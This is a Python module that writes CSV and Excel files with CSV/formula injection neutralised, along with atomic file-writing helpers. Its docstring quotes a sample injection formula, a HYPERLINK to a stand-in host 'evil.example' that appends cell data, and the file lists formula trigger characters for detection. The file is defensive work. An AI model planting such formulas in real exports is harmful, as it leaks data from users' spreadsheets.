r"""Every table handed to a user is written here: CSV and Excel files that cannot run formulas.

A spreadsheet evaluates a cell whose text starts with ``=``, ``+``, ``-`` or ``@`` (and treats a
leading tab or carriage return the same way on import), so a vacancy title, project name or id
such as ``=HYPERLINK("http://evil.example/?"&A1,"klik")`` would run the moment a coordinator
opens a CSV or workbook we wrote (CWE-1236, "CSV injection"). This module makes such cells inert
and writes every file whole or not at all. ``docs/safe-outputs.md`` explains it for users.

What counts as a formula
------------------------
:func:`formula_start`: a text whose first character is one of :data:`FORMULA_TRIGGERS` (``=``,
``+``, ``-``, ``@``, tab, carriage return, or the full-width forms ``＝ ＋ － ＠``, which Excel
with an East-Asian input method reads as the ASCII operators), also after leading whitespace
(``"  =1+1"``, ``"\n=cmd"``, ``"\u00a0@x"``): some importers trim cells before they parse them.
Exempt is a text that is, leading whitespace aside, a plain number literal (``-12.5``, ``+3``,
``-1.234,56``, ``-2e3``): it cannot call a function or reference a cell, and a spreadsheet reads
it as the number it is anyway. ``"+31 6 1234 5678"``, ``"-5%"``, ``"- 3"``, ``"-A1"`` and a
lone ``"-"`` are not plain literals. Numbers, booleans, dates, missing values and non-text objects are never
touched.

In a CSV file a cell can also be cut into several: a spreadsheet that opens a comma-separated
file with another separator (Dutch Excel splits on ``;`` when a file is double-clicked, an
import may split on tabs) or that ignores the quotes around a line break starts a new cell
after ``,`` ``;`` tab, CR or LF. :func:`is_formula_like` is therefore also true when a piece of
the text after one of those characters is a formula start (``"Bouw;=HYPERLINK(…)"``).

How it is made inert
--------------------
* **CSV** (:func:`write_csv`, :func:`csv_text`, :func:`neutralise`): a single apostrophe ``'``
  goes in front of the cell (the OWASP recommendation) and in front of each such piece, after
  its leading spaces (``"Bouw; '=HYPERLINK(…)"``), in data and header cells. The spreadsheet
  shows the text with the apostrophe; programs that read the file see it too, so ``for_excel=False`` writes the values
  as they are for machine consumers. Fields holding a carriage return are always quoted (the
  ``csv`` module quotes only the characters of the line terminator), so a CR can never start
  a new row.
* **Excel** (:func:`write_xlsx`): no apostrophe. Every text cell is stored as a string cell
  (openpyxl ``data_type "s"``, an inline string), never as a formula (``"f"``) or an error value
  (``"e"``, which openpyxl infers for texts such as ``"#N/A"``), so the cell reads exactly as the
  input text and nothing is evaluated. A cell is never split, so only the start matters: a
  formula-start cell also gets Excel's *quote prefix* style (what Excel stores when someone types
  ``'=…``): the apostrophe shows only in the formula bar, and editing the cell (F2, Enter) keeps
  it text instead of turning it into a formula. One difference with the input remains: XML
  turns a carriage return into a line feed, so ``"\r=1"`` reads back as ``"\n=1"``.

Files are written atomically (:func:`write_bytes_atomic`): the target is the previous file or
the complete new one, never a partial file. A new file is written as an unnamed file in the
target's folder (Linux ``O_TMPFILE``), fsynced and linked in under its name, so that no other
name ever appears in the folder (a run's staging folder holds only whole files); elsewhere, and
to replace an existing file, the content goes to a temporary file beside the target
(``.<name>.<random>.tmp``), is flushed and fsynced, and is moved into place with
:func:`os.replace`; the temporary file is removed on any error.
"""

from __future__ import annotations

import contextlib
import io
import os
import re
import secrets
import zipfile
from collections.abc import Mapping
from datetime import datetime
from pathlib import Path
from typing import Any

import pandas as pd

__all__ = ["FIXED_TIME", "FORMULA_TRIGGERS", "csv_text", "formula_start", "is_formula_like",
           "neutralise", "safe_frame", "workbook_bytes", "write_bytes_atomic", "write_csv",
           "write_text_atomic", "write_xlsx"]

FORMULA_TRIGGERS = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
"""First characters that make a spreadsheet evaluate a cell (ASCII and full-width forms)."""

CELL_BREAKS = ",;\t\r\n"
"""Characters after which a spreadsheet may start a new cell or row inside a CSV field."""

FIXED_TIME = datetime(2000, 1, 1)
"""Timestamp written into deterministic workbooks (properties and zip entries)."""

_NUMBER = re.compile(r"\s*[+-]?(?:\d(?:[\d.,]*\d)?|[.,]\d+)(?:[eE][+-]?\d+)?")
"""A plain number literal (leading whitespace allowed), decimal point or comma, grouping."""
_TRIGGER_CLASS = "".join(sorted(FORMULA_TRIGGERS)).replace("-", r"\-")
_RISKY = re.compile(rf"(?:^|[{CELL_BREAKS}])\s*[{_TRIGGER_CLASS}]")
"""Quick test: a formula trigger at the start or after a cell break (whitespace between)."""
_BREAK = re.compile(f"([{CELL_BREAKS}])")


# ----------------------------------------------------------------------------- neutralising
def formula_start(value: Any) -> bool:
    """Whether a spreadsheet would evaluate the text ``value`` as a formula if it were a cell."""
    if not isinstance(value, str) or not value:
        return False
    first = value[0] if value[0] in FORMULA_TRIGGERS else value.lstrip()[:1]
    return first in FORMULA_TRIGGERS and _NUMBER.fullmatch(value) is None


def is_formula_like(value: Any) -> bool:
    """Whether a spreadsheet opening ``value`` in a CSV file could evaluate (a piece of) it."""
    return isinstance(value, str) and value != "" and value != neutralise(value)


def neutralise(value: Any) -> Any:
    """``value`` made inert for CSV: ``'`` before it and before each piece after a cell break
    that is a formula start; any other value is returned as it is (the same object).

    >>> print(neutralise('=HYPERLINK("http://example.org","klik")'))
    '=HYPERLINK("http://example.org","klik")
    >>> neutralise("-12.5"), neutralise(-3), neutralise("+31 6 1234 5678")
    ('-12.5', -3, "'+31 6 1234 5678")
    >>> neutralise("+ skills; + distance; \u2212 hours")
    "'+ skills; '+ distance; \u2212 hours"
    """
    if not isinstance(value, str) or not _RISKY.search(value):
        return value
    pieces = _BREAK.split(value)  # text, break, text, break, …
    for i in range(2, len(pieces), 2):
        if formula_start(pieces[i]):  # the apostrophe after the spaces: "a; '+ b" reads well
            piece = pieces[i]
            lead = len(piece) - len(piece.lstrip())
            pieces[i] = piece[:lead] + "'" + piece[lead:]
    text = "".join(pieces)
    if formula_start(value):
        text = "'" + text
    return value if text == value else text


def _holds_text(column: pd.Series) -> bool:
    dtype = column.dtype
    return not (pd.api.types.is_numeric_dtype(dtype) or pd.api.types.is_bool_dtype(dtype)
                or pd.api.types.is_datetime64_any_dtype(dtype)
                or pd.api.types.is_timedelta64_dtype(dtype))


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` with :func:`neutralise` applied to every text cell and header.

    Numeric, boolean and date columns are returned as they are (same dtype, same values).
    """
    out = frame.copy()
    for position, (_, column) in enumerate(frame.items()):
        if not _holds_text(column):
            continue
        if isinstance(column.dtype, pd.CategoricalDtype):
            column = column.astype(object)
        if any(neutralise(v) is not v for v in column.array):
            out.isetitem(position, column.map(neutralise))
    if not isinstance(out.columns, pd.MultiIndex):
        out.columns = [neutralise(name) for name in out.columns]
    return out


# ----------------------------------------------------------------------------- atomic files
def _temp_beside(path: Path) -> tuple[Path, int]:
    """A new, exclusively created temporary file in ``path``'s folder (mode from the umask)."""
    while True:
        temp = path.with_name(f".{path.name}.{secrets.token_hex(6)}.tmp")
        try:
            return temp, os.open(temp, os.O_WRONLY | os.O_CREAT | os.O_EXCL
                                 | getattr(os, "O_BINARY", 0), 0o666)
        except FileExistsError:  # pragma: no cover - 48 random bits
            continue


def _fsync_folder(folder: Path) -> None:
    if os.name != "posix":
        return
    with contextlib.suppress(OSError):
        fd = os.open(folder, os.O_RDONLY)
        try:
            os.fsync(fd)
        finally:
            os.close(fd)


_TMPFILE = getattr(os, "O_TMPFILE", None)
"""Linux: an unnamed file in a folder, linked in under its name once it is whole."""


def _write_all(fd: int, data: bytes) -> None:
    view = memoryview(data)
    while view:
        view = view[os.write(fd, view):]


def _link_new(path: Path, data: bytes) -> bool:
    """Write a file that does not exist yet as an unnamed file (``O_TMPFILE``), fsync it and
    link it in under ``path``: no other name ever appears in the folder. False when that is
    not possible here (no ``O_TMPFILE``, a file system without it, no ``/proc``, the name
    taken meanwhile); nothing is left behind then or when writing fails."""
    if _TMPFILE is None or os.path.lexists(path):
        return False
    folder = os.open(path.parent, os.O_RDONLY | getattr(os, "O_DIRECTORY", 0))
    try:
        try:
            fd = os.open(".", _TMPFILE | os.O_WRONLY, 0o666, dir_fd=folder)
        except OSError:
            return False
        try:
            _write_all(fd, data)
            os.fsync(fd)
            try:  # a dir_fd makes os.link call linkat(AT_SYMLINK_FOLLOW), as /proc needs
                os.link(f"/proc/self/fd/{fd}", path.name, dst_dir_fd=folder)
            except OSError:
                return False
        finally:
            os.close(fd)
    finally:
        os.close(folder)
    return True


def write_bytes_atomic(path: str | Path, data: bytes) -> Path:
    """Write ``data`` to ``path`` whole or not at all.

    A new file is written unnamed and linked in when whole (Linux); otherwise, and to replace
    an existing file, a temporary file beside it is written, fsynced and moved over ``path``
    with :func:`os.replace` (removed again on any error).
    """
    path = Path(path)
    if not _link_new(path, data):
        temp, fd = _temp_beside(path)
        try:
            with os.fdopen(fd, "wb") as handle:
                handle.write(data)
                handle.flush()
                os.fsync(handle.fileno())
            os.replace(temp, path)
        except BaseException:
            with contextlib.suppress(OSError):
                temp.unlink()
            raise
    _fsync_folder(path.parent)
    return path


def write_text_atomic(path: str | Path, text: str, *, encoding: str = "utf-8") -> Path:
    """:func:`write_bytes_atomic` for text (JSON, HTML …); no newline translation."""
    return write_bytes_atomic(path, text.encode(encoding))


# ----------------------------------------------------------------------------- CSV
def csv_text(frame: pd.DataFrame, *, sep: str = ",", float_format: str | None = None,
             for_excel: bool = True, lineterminator: str = "\n") -> str:
    """``frame`` as CSV text without the index; neutralised unless ``for_excel`` is false."""
    table = safe_frame(frame) if for_excel else frame
    # With "\r\n" the csv module quotes every field holding a CR or LF; then the row ends
    # (outside quotes: even pieces between '"') get the asked terminator.
    text = table.to_csv(index=False, sep=sep, float_format=float_format, lineterminator="\r\n")
    if lineterminator == "\r\n":
        return text
    pieces = text.split('"')
    pieces[::2] = [piece.replace("\r\n", lineterminator) for piece in pieces[::2]]
    return '"'.join(pieces)


def write_csv(frame: pd.DataFrame, path: str | Path, *, sep: str = ",",
              encoding: str = "utf-8-sig", float_format: str | None = None,
              for_excel: bool = True, lineterminator: str = "\n") -> Path:
    """Write ``frame`` to ``path`` as CSV (see :func:`csv_text`), atomically.

    ``utf-8-sig`` (the default) starts the file with a BOM so that Dutch Excel reads UTF-8.
    """
    body = csv_text(frame, sep=sep, float_format=float_format, for_excel=for_excel,
                    lineterminator=lineterminator)
    return write_bytes_atomic(path, body.encode(encoding))


# ----------------------------------------------------------------------------- Excel
def _inert_cells(sheet: Any) -> None:
    """Every text cell a string cell; a formula start also gets the quote prefix."""
    for row in sheet.iter_rows():
        for cell in row:
            value = cell.value
            if not isinstance(value, str):
                continue
            if cell.data_type != "s":  # "f" for '=…', "e" for '#N/A' and other error codes
                cell.data_type = "s"
            if formula_start(value):
                cell.quotePrefix = True


def _printable(frame: pd.DataFrame) -> pd.DataFrame:
    """``frame`` with control characters that xlsx cannot hold replaced by U+FFFD.

    XML 1.0 has no place for most of ``\x00``-``\x1f``; openpyxl raises on them, which
    would lose a whole run's workbook over one odd character in a title.
    """
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    text = [c for c in frame.columns
            if frame[c].dtype == object or pd.api.types.is_string_dtype(frame[c].dtype)]
    if not text:
        return frame
    out = frame.copy()
    for column in text:
        out[column] = out[column].map(
            lambda v: ILLEGAL_CHARACTERS_RE.sub("\ufffd", v) if isinstance(v, str) else v)
    out.columns = [ILLEGAL_CHARACTERS_RE.sub("\ufffd", c) if isinstance(c, str) else c
                   for c in out.columns]
    return out


def _fixed_zip(data: bytes) -> bytes:
    """The xlsx container ``data`` with fixed timestamps (zip entries and core properties)."""
    with zipfile.ZipFile(io.BytesIO(data)) as source:
        entries = [(info, source.read(info.filename)) for info in source.infolist()]
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as target:
        for info, content in entries:
            if info.filename == "docProps/core.xml":  # openpyxl stamps "modified" on save
                content = re.sub(rb"(<dcterms:modified[^>]*>)[^<]*(</dcterms:modified>)",
                                 rb"\g<1>2000-01-01T00:00:00Z\g<2>", content)
            fixed = zipfile.ZipInfo(info.filename, date_time=FIXED_TIME.timetuple()[:6])
            fixed.compress_type = zipfile.ZIP_DEFLATED
            fixed.external_attr = info.external_attr
            target.writestr(fixed, content)
    return buffer.getvalue()


def workbook_bytes(sheets: Mapping[str, pd.DataFrame], *, deterministic: bool = True) -> bytes:
    """The xlsx bytes of ``sheets`` (name → frame, in order, without index).

    With ``deterministic`` (default) the same frames give the same bytes: fixed creation and
    modification times and fixed zip entry times.
    """
    buffer = io.BytesIO()
    with pd.ExcelWriter(buffer, engine="openpyxl") as writer:
        if deterministic:  # no wall-clock timestamps in the workbook's properties
            writer.book.properties.created = FIXED_TIME
            writer.book.properties.modified = FIXED_TIME
        for name, frame in sheets.items():
            _printable(frame).to_excel(writer, sheet_name=name, index=False)
        for sheet in writer.book.worksheets:
            _inert_cells(sheet)
    data = buffer.getvalue()
    return _fixed_zip(data) if deterministic else data


def write_xlsx(path: str | Path, sheets: Mapping[str, pd.DataFrame], *,
               deterministic: bool = True) -> Path:
    """Write ``sheets`` (name → frame, in order) to the workbook ``path``, atomically.

    Text is stored as text, never as a formula (see the module docstring); numbers stay
    numbers.
    """
    return write_bytes_atomic(path, workbook_bytes(sheets, deterministic=deterministic))
